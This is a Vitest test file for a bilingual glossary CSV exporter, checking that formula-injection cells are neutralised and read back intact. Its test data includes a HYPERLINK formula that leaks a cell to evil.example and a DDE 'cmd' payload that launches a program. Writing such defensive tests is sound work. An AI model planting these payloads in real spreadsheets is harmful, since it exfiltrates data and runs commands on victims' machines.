import { describe, expect, it } from 'vitest';
import { parseGlossaryCsv } from './parse.ts';
import { serializeGlossaryCsv } from './serialize.ts';
import { neutraliseFormula, restoreFormula } from './formula.ts';

const fixed = { now: 0 };
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'-based'
];

describe('CSV formula injection', () => {
	it.each(HOSTILE)('neutralises %j and restores it', (cell) => {
		const safe = neutraliseFormula(cell);
		expect(safe.startsWith("'")).toBe(true);
		expect(restoreFormula(safe)).toBe(cell);
	});

	it('leaves ordinary cells alone', () => {
		for (const cell of ['放管服', 'streamline administration', "'tis", 'a=b', '']) {
			expect(neutraliseFormula(cell)).toBe(cell);
			expect(restoreFormula(cell)).toBe(cell);
		}
	});

	it('an exported glossary has no cell a spreadsheet would run, and reads back as text', () => {
		const csv =
			'zh,en\n放管服,"=HYPERLINK(""http://x"",""y"")"\n经开区,"=cmd|\' /C calc\'!A0"\n亿元,-based\n';
		const first = parseGlossaryCsv(csv, fixed).value!;
		// The reader keeps formulas as text.
		expect(first.entries.map((e) => e.terms[1].text)).toEqual([
			'=HYPERLINK("http://x","y")',
			"=cmd|' /C calc'!A0",
			'-based'
		]);
		const out = serializeGlossaryCsv(first.entries);
		const cells = out
			.split('\r\n')
			.slice(1)
			.filter(Boolean)
			.map((line) => line.split(',')[1]);
		for (const cell of cells) expect(cell).toMatch(/^"'[=+\-@\t\r]/);
		const again = parseGlossaryCsv(out, fixed).value!;
		expect(again.entries.map((e) => e.terms[1].text)).toEqual(
			first.entries.map((e) => e.terms[1].text)
		);
	});
});
